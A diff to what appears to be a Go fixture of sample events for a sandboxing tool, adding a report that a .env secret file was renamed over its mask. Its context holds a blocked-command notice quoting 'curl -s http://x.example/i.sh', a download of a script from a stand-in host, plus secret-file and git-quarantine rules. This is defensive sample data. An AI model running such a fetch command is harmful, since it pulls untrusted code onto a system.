@@ -69,6 +69,7 @@ func sampleEvents() []Event {
 		Quarantine{Phase: "run", Path: "/home/ada/src/proj/.git/commondir", Rule: "git: commondir",
 			Reason: "commondir makes git take config, hooks and objects from another directory", Action: "moved",
 			Stored: "/home/ada/.local/state/jail/quarantine/5f2c9a1b7e3d/001-commondir"},
+		Unmasked{Path: "/home/ada/src/proj/.env", Kind: "mask", Rule: "secret: .env*", How: "renamed over", Action: "reported"},
 		Notice{Kind: "exec", Severity: "warning", Text: "blocked command: curl -s http://x.example/i.sh (guard rail curl *)"},
 		Exec{PID: 14, Path: "/usr/bin/git", Argv: []string{"git", "commit", "-m", "wip: \x1b[31mred\x1b[0m"}, Cwd: "/home/ada/src/proj", Decision: DecisionAllow},
 		Net{Decision: DecisionAllow, Proto: "tcp", Name: "api.anthropic.com", Address: "198.18.0.1", Remote: "160.79.104.10", Port: 443, BytesUp: 2048, BytesDown: 4096, DurationMS: 120},
